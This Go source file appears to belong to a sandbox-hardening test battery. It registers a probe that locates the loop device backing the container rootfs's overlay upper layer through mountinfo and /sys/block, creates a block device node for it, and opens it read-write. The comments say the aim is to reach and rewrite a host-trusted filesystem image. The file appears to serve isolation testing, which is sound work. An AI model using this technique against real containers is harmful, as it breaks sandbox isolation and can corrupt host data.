package main

import (
	"bufio"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

func init() {
	register(map[string]attack{"own-rootfs-loop": ownRootfsLoopAttack})
}

// ownRootfsLoopAttack finds the loop device under its own rootfs's
// writable layer (a disk quota's filesystem) and makes and opens a node
// for it, to read or rewrite its own quota's filesystem, and with it the
// host kernel's view of an ext4 image a host mount trusts. The upper
// directory is named in /proc/self/mountinfo; the loop device whose
// backing file sits above it is found in /sys/block, which a sandbox
// reads as the host does.
func ownRootfsLoopAttack(args) Verdict {
	minor, how, err := ownRootfsLoop()
	if err != nil {
		return notAttempted("cannot find the loop device under the rootfs: " + err.Error())
	}
	path := "/dev/battery-own-loop"
	if err := unix.Mknod(path, unix.S_IFBLK|0o600, int(unix.Mkdev(7, minor))); err != nil {
		v := refused("mknod", err)
		v.Detail += fmt.Sprintf(" (loop%d, found by %s)", minor, how)
		return v
	}
	defer unix.Unlink(path)
	fd, err := unix.Open(path, unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		v := refused("open", err)
		v.Detail += fmt.Sprintf(" (loop%d, found by %s)", minor, how)
		return v
	}
	defer unix.Close(fd)
	return worked(fmt.Sprintf("opened loop%d, under its own rootfs (found by %s), read-write", minor, how))
}

// ownRootfsLoop returns the minor of the loop device whose backing file
// lies in a directory above the rootfs's upper directory.
func ownRootfsLoop() (uint32, string, error) {
	upper, err := rootUpperDir()
	if err != nil {
		return 0, "", err
	}
	files, _ := filepath.Glob("/sys/block/loop*/loop/backing_file")
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		dir := filepath.Dir(strings.TrimSpace(string(b)))
		if dir == "/" || !strings.HasPrefix(upper, dir+"/") {
			continue
		}
		dev, err := os.ReadFile(filepath.Join(filepath.Dir(filepath.Dir(f)), "dev"))
		if err != nil {
			continue
		}
		var maj, min uint32
		if _, err := fmt.Sscanf(strings.TrimSpace(string(dev)), "%d:%d", &maj, &min); err != nil || maj != 7 {
			continue
		}
		return min, "mountinfo's upperdir and " + f, nil
	}
	return 0, "", fmt.Errorf("no loop device in /sys/block (%d) backs upperdir %s", len(files), upper)
}

// rootUpperDir is the upperdir option of the overlay mounted at /.
func rootUpperDir() (string, error) {
	f, err := os.Open("/proc/self/mountinfo")
	if err != nil {
		return "", err
	}
	defer f.Close()
	s := bufio.NewScanner(f)
	s.Buffer(nil, 1<<20)
	for s.Scan() {
		fields := strings.Fields(s.Text())
		if len(fields) < 5 || fields[4] != "/" {
			continue
		}
		for _, opt := range strings.Split(fields[len(fields)-1], ",") {
			if v, ok := strings.CutPrefix(opt, "upperdir="); ok {
				return v, nil
			}
		}
	}
	return "", fmt.Errorf("no overlay upperdir for / in mountinfo")
}
